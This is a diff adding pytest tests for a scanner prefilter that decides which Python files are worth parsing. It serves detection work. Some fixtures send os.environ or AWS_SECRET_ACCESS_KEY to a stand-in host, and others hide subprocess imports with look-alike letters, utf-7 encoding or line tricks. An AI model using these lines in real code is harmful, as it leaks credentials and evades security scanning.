@@ -1,0 +1,115 @@
+"""Which Python files are parsed at all: what is passed over cannot hold anything, and honest users of a library are."""
+
+from __future__ import annotations
+
+import json
+import random
+from pathlib import Path
+
+import pytest
+
+from mlsupply.evidence import package
+from mlsupply.evidence.contents import judged
+from mlsupply.evidence.pool import Pool
+from mlsupply.evidence.prefilter import worth_parsing
+from mlsupply.evidence.python import analyse
+from mlsupply.model import Severity
+from mlsupply.request import RuleSettings
+from mlsupply.ruleset import load
+from tests.code_pieces import source
+from tests.conftest import NOW, SHARED
+
+HARMLESS = {
+    "types of a client": (
+        "import httpx\nfrom typing import Optional\ndef shape(r: httpx.Response, t: Optional[httpx.Timeout] = None):\n"
+        "    raise httpx.HTTPStatusError('x', request=r.request, response=r)"
+    ),
+    "types taken by name": "from httpx import (\n    Headers,  # sent with it\n    Response as R,\n)\nx: R",
+    "addresses taken apart": "import urllib.parse\nfrom urllib.parse import quote, urlsplit as cut\nurllib.parse.quote('a')",
+    "a status": "from http import HTTPStatus\nif code == HTTPStatus.OK:\n    pass",
+    "an example in the documentation": 'def f():\n    """\n    >>> import requests\n    >>> requests.get("https://a.example")\n"""',
+    "a comment": "# import subprocess\nx = 1",
+    "prose": '"""You can import the code of others, http included."""',
+    "is it installed": "import importlib.util\nok = importlib.util.find_spec('torch') is not None",
+    "a module of the package": "from .http.requests import Answer\nfrom acme.websockets.types import Frame",
+    "paths": "from os import path, makedirs\nmakedirs(path.join('a', 'b'))",
+    "its own hidden folder": "NAME = 'model.claude_3'",
+    "a text of the service": "import json\nURL = 'https://a.example'\ndef f(d):\n    return d.get('key')",
+}
+
+
+@pytest.mark.parametrize("text", HARMLESS.values(), ids=HARMLESS)
+def test_naming_a_library_without_using_it_is_not_worth_parsing(text: str) -> None:
+    assert not worth_parsing(text.encode())
+
+
+WORTH = {
+    "a client": "import httpx\nhttpx.post(u, json=d)",
+    "a client by another name": "import httpx as h\nh.post(u)",
+    "a client handed on": "import httpx\nclient = httpx\nx: httpx.Response",
+    "a client reached by name": "import httpx\nx: httpx.Response\ngetattr(httpx, p)(u)",
+    "a function taken by name": "from httpx import Response, post\npost(u)",
+    "all of it": "from httpx import *",
+    "a module that another one imported": "import urllib.error\nurllib.error.urllib.request.urlopen(u)",
+    "a module out of a harmless one": "from urllib.error import urllib",
+    "a list over lines": "from httpx import (\n  Response,\n  post,\n)",
+    "a list without end": "from httpx import (\n" + "  Response,\n" * 2_000,
+    "over joined lines": "from \\\n  subprocess import run\nrun(x)",
+    "over joined lines again": "import \\\n  subprocess\nsubprocess.run(x)",
+    "behind a semicolon": "x = 1; import subprocess",
+    "behind a colon": "try: import subprocess\nexcept ImportError: pass",
+    "in a text that is written": "f.write('import subprocess')",
+    "in a text over lines": "f.write('x\\nimport subprocess')",
+    "old line ends": "x = 1\rimport subprocess\rsubprocess.run(x)",
+    "behind four thousand letters": "x = '" + "a " * 3_000 + "'; import subprocess",
+    "look-alike letters": "import \u017fubprocess",
+    "small raised letters": "import \u02e2ubprocess",
+    "another encoding": "# coding: utf-7\n+AGkAbQBwAG8AcgB0- os",
+    "an encoding with escapes": "#!/usr/bin/python\n# -*- coding: raw_unicode_escape -*-\nx = 1",
+    "a library handed on": "from six.moves.urllib.request import urlopen",
+    "a library of a module of the package": "from .compat import requests\nrequests.post(u)",
+    "a command taken by name": "from os import path, system as s\ns(x)",
+    "the environment through another client": (
+        "import os\nfrom .web import client\nclient.get('https://c.example/' + str(dict(os.environ)))"
+    ),
+    "a secret through another client": (
+        "import os\nfrom .web import client\nclient.post('https://c.example', data=os.getenv('AWS_SECRET_ACCESS_KEY'))"
+    ),
+    "a word far from the first of its kind": "x = retrieval\n" * 200 + "eval(x)",
+}
+
+
+@pytest.mark.parametrize("text", WORTH.values(), ids=WORTH)
+def test_what_can_be_reached_is_worth_parsing(text: str) -> None:
+    assert worth_parsing(text.encode())
+
+
+def test_bytes_that_are_no_text_are_left_to_the_parser() -> None:
+    assert worth_parsing(b"x = '\xff'")
+    assert not worth_parsing("x = 'größer'".encode())
+    assert not worth_parsing("\ufeffx = 'größer'".encode())
+
+
+def test_no_random_source_is_passed_over_that_the_analyser_finds_something_in() -> None:
+    chance = random.Random(7)
+    for _ in range(60):
+        text = source(chance, 12).partition("\n")[2]  # without its first line, which names everything
+        data = f"import os, sys, base64, zlib, threading\n{text}".encode()
+        deeds = {fact.behaviour for fact, _ in analyse.module("demo/a.py", data).facts} - {"contacts"}
+        assert not deeds or worth_parsing(data), (deeds, text)
+
+
+@pytest.mark.shared
+def test_the_labelled_trees_show_the_same_with_every_file_parsed(monkeypatch: pytest.MonkeyPatch) -> None:
+    folder = SHARED / "samples" / "code-dev"
+    rows = [json.loads(line) for line in (folder / "manifest.jsonl").read_text().splitlines()]
+    trees = [folder / row["path"] for row in rows]
+    filtered = [_ids(tree) for tree in trees]
+    monkeypatch.setattr(package, "worth_parsing", lambda data: True)
+    assert filtered == [_ids(tree) for tree in trees]
+
+
+def _ids(tree: Path) -> set[str]:
+    with Pool(1) as pool:
+        said = judged(package.look_inside(tree, pool), load(RuleSettings(), NOW))
+    return {finding.id for finding in said.findings if finding.severity.rank >= Severity.MEDIUM.rank}
